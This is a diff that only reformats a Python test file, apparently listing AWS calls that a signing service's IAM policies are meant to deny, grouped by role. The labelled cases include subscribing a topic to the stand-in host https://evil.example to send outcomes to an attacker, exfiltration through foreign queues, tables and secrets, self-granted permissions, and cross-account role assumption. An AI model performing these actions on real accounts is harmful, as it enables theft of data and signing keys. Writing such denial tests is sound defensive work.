@@ -26,7 +26,9 @@ def writes(who: str, table: str, attribute: str, why: str, action: str = "dynamo
 def broadcaster() -> list[Call]:
     me = "broadcaster"
     rows = [writes(me, "RequestsTable", name, "forges a record to get another signature") for name in FIXED]
-    rows += [writes(me, "AccountsTable", name, "changes a head to use another account's key or policy") for name in OF_A_HEAD]
+    rows += [
+        writes(me, "AccountsTable", name, "changes a head to use another account's key or policy") for name in OF_A_HEAD
+    ]
     rows += [
         writes(me, "AccountsTable", "spend", "evades the spend limit of a window"),
         writes(me, "AccountsTable", "unusable", "marks every account as unusable"),
@@ -56,7 +58,14 @@ def broadcaster() -> list[Call]:
         call(me, "sqs:ReceiveMessage", "SigningQueue", "consumes requests", "lambda"),
         call(me, "sqs:ReceiveMessage", "ResignQueue", "consumes the signer's messages", "lambda"),
         call(me, "sqs:PurgeQueue", "BroadcastQueue", "empties a queue"),
-        call(me, "sns:Subscribe", "OutcomeTopic", "sends outcomes to an attacker", sns__Protocol="https", sns__Endpoint="https://evil.example"),
+        call(
+            me,
+            "sns:Subscribe",
+            "OutcomeTopic",
+            "sends outcomes to an attacker",
+            sns__Protocol="https",
+            sns__Endpoint="https://evil.example",
+        ),
         call(me, "sns:SetTopicAttributes", "OutcomeTopic", "changes who may publish"),
         call(me, "iam:PutRolePolicy", "BroadcasterRole", "extends its own permissions"),
         call(me, "lambda:UpdateFunctionCode", "SignerFunction", "becomes the signer"),
@@ -68,7 +77,11 @@ def broadcaster() -> list[Call]:
 
 def signer() -> list[Call]:
     me = "signer"
-    rows = [writes(me, "RequestsTable", name, "changes sealed attributes") for name in FIXED if name not in ("metadata", "trace")]
+    rows = [
+        writes(me, "RequestsTable", name, "changes sealed attributes")
+        for name in FIXED
+        if name not in ("metadata", "trace")
+    ]
     rows += [writes(me, "AccountsTable", name, "changes an account's name or key") for name in OF_A_HEAD]
     rows += [
         writes(me, "AccountsTable", "lowestOpenNonce", "skips open slots"),
@@ -83,8 +96,22 @@ def signer() -> list[Call]:
         call(me, "dynamodb:Scan", "RequestsTable", "reads all requests at once"),
         call(me, "secretsmanager:GetSecretValue", "RpcSecretArn", "reads the nodes' URLs"),
         call(me, "secretsmanager:GetSecretValue", "OtherSecret", "reads another application's data"),
-        call(me, "kms:Sign", "Key", "signs more than a digest", kms__SigningAlgorithm="ECDSA_SHA_256", kms__MessageType="RAW"),
-        call(me, "kms:Sign", "Key", "signs by another algorithm", kms__SigningAlgorithm="SM2DSA", kms__MessageType="DIGEST"),
+        call(
+            me,
+            "kms:Sign",
+            "Key",
+            "signs more than a digest",
+            kms__SigningAlgorithm="ECDSA_SHA_256",
+            kms__MessageType="RAW",
+        ),
+        call(
+            me,
+            "kms:Sign",
+            "Key",
+            "signs by another algorithm",
+            kms__SigningAlgorithm="SM2DSA",
+            kms__MessageType="DIGEST",
+        ),
         call(me, "kms:Sign", "SignDirectKey", "signs with the other key", **SIGNED),
         call(me, "kms:Sign", "OtherKey", "signs with another application's key", **SIGNED),
         call(me, "kms:CreateGrant", "Key", "grants its permission to others"),
@@ -95,7 +122,14 @@ def signer() -> list[Call]:
         call(me, "sqs:SendMessage", "ResignQueue", "requests another signature from itself"),
         call(me, "sqs:SendMessage", "ForeignQueue", "sends data out of the network"),
         call(me, "sqs:ReceiveMessage", "BroadcastQueue", "consumes the broadcaster's pokes", "lambda"),
-        call(me, "sns:Subscribe", "OutcomeTopic", "sends outcomes to an attacker", sns__Protocol="https", sns__Endpoint="https://evil.example"),
+        call(
+            me,
+            "sns:Subscribe",
+            "OutcomeTopic",
+            "sends outcomes to an attacker",
+            sns__Protocol="https",
+            sns__Endpoint="https://evil.example",
+        ),
         call(me, "ec2:RunInstances", "Instance", "starts a machine", "lambda"),
         call(me, "ec2:CreateNetworkInterface", "Interface", "creates a route out of the network"),
         call(me, "ec2:DescribeSubnets", "*", "explores the network"),
@@ -118,7 +152,14 @@ def stolen_credentials() -> list[Call]:
             call("signer", "secretsmanager:GetSecretValue", "SealSecret", "reads the seal key", where),
             call("sign-direct", "kms:Sign", "SignDirectKey", "signs", where, **SIGNED),
             call("sign-direct", "kms:GetPublicKey", "SignDirectKey", "reads a public key", where),
-            call("broadcaster", "dynamodb:UpdateItem", "RequestsTable", "writes statuses", where, dynamodb__Attributes=["requestId", "status"]),
+            call(
+                "broadcaster",
+                "dynamodb:UpdateItem",
+                "RequestsTable",
+                "writes statuses",
+                where,
+                dynamodb__Attributes=["requestId", "status"],
+            ),
             call("broadcaster", "secretsmanager:GetSecretValue", "RpcSecretArn", "reads the nodes' URLs", where),
             call("broadcaster", "sns:Publish", "OutcomeTopic", "publishes outcomes", where),
             call("broadcaster", "sqs:SendMessage", "ResignQueue", "requests signatures", where),
@@ -130,7 +171,14 @@ def sign_direct() -> list[Call]:
     me = "sign-direct"
     return [
         call(me, "kms:Sign", "Key", "signs for the queue's accounts", **SIGNED),
-        call(me, "kms:Sign", "SignDirectKey", "signs more than a digest", kms__SigningAlgorithm="ECDSA_SHA_256", kms__MessageType="RAW"),
+        call(
+            me,
+            "kms:Sign",
+            "SignDirectKey",
+            "signs more than a digest",
+            kms__SigningAlgorithm="ECDSA_SHA_256",
+            kms__MessageType="RAW",
+        ),
         call(me, "kms:CreateGrant", "SignDirectKey", "grants its permission to others"),
         call(me, "dynamodb:GetItem", "RequestsTable", "reads requests"),
         call(me, "sqs:SendMessage", "SigningQueue", "sends requests to the queue"),
@@ -190,8 +238,14 @@ def viewer() -> list[Call]:
 
 def operator() -> list[Call]:
     me = "operator"
-    rows = [writes(me, "RequestsTable", name, "changes an accepted request") for name in ("digest", "nonce", "to", "value", "seal", "sender")]
-    rows += [writes(me, "AccountsTable", name, "changes an account's key, name or spending") for name in ("kmsKeyId", "name", "spend")]
+    rows = [
+        writes(me, "RequestsTable", name, "changes an accepted request")
+        for name in ("digest", "nonce", "to", "value", "seal", "sender")
+    ]
+    rows += [
+        writes(me, "AccountsTable", name, "changes an account's key, name or spending")
+        for name in ("kmsKeyId", "name", "spend")
+    ]
     rows += [
         call(me, "kms:Sign", "Key", "signs", **SIGNED),
         call(me, "kms:Sign", "SignDirectKey", "signs", **SIGNED),
@@ -234,12 +288,40 @@ def others() -> list[Call]:
         call("administrator", "secretsmanager:GetSecretValue", "SealSecret", "reads the seal key"),
         call("administrator", "sts:AssumeRole", "SignerRole", "becomes the signer"),
         call("administrator", "sts:AssumeRole", "BroadcasterRole", "becomes the broadcaster"),
-        call("cloudwatch", "sns:Publish", "AlarmTopic", "publishes another account's alarm", aws__SourceAccount="777788889999"),
-        call("logs", "sts:AssumeRole", "TrailRole", "for another account's log group", aws__SourceAccount="777788889999"),
-        call("firehose", "sts:AssumeRole", "TrailRole", "for another account's stream", aws__SourceAccount="777788889999"),
-        call("lambda", "sts:AssumeRole", "SignerRole", "for another account's function", aws__SourceAccount="777788889999"),
-        call("lambda", "sts:AssumeRole", "BroadcasterRole", "for another account's function", aws__SourceAccount="777788889999"),
-        call("lambda", "sts:AssumeRole", "SignDirectRole", "for another account's function", aws__SourceAccount="777788889999"),
+        call(
+            "cloudwatch",
+            "sns:Publish",
+            "AlarmTopic",
+            "publishes another account's alarm",
+            aws__SourceAccount="777788889999",
+        ),
+        call(
+            "logs", "sts:AssumeRole", "TrailRole", "for another account's log group", aws__SourceAccount="777788889999"
+        ),
+        call(
+            "firehose", "sts:AssumeRole", "TrailRole", "for another account's stream", aws__SourceAccount="777788889999"
+        ),
+        call(
+            "lambda",
+            "sts:AssumeRole",
+            "SignerRole",
+            "for another account's function",
+            aws__SourceAccount="777788889999",
+        ),
+        call(
+            "lambda",
+            "sts:AssumeRole",
+            "BroadcasterRole",
+            "for another account's function",
+            aws__SourceAccount="777788889999",
+        ),
+        call(
+            "lambda",
+            "sts:AssumeRole",
+            "SignDirectRole",
+            "for another account's function",
+            aws__SourceAccount="777788889999",
+        ),
     ]
     for action, on in (
         ("sqs:SendMessage", "SigningQueue"),
@@ -259,7 +341,13 @@ def others() -> list[Call]:
         # An attacker in the signer uses its own credentials to send data out of the network.
         call("foreign-account", "dynamodb:PutItem", "ForeignTable", "sends data out of the network", "network"),
         call("foreign-account", "sqs:SendMessage", "ForeignQueue", "sends data out of the network", "network"),
-        call("foreign-account", "secretsmanager:GetSecretValue", "OtherSecret", "sends data out of the network", "network"),
+        call(
+            "foreign-account",
+            "secretsmanager:GetSecretValue",
+            "OtherSecret",
+            "sends data out of the network",
+            "network",
+        ),
     ]
     return rows
 
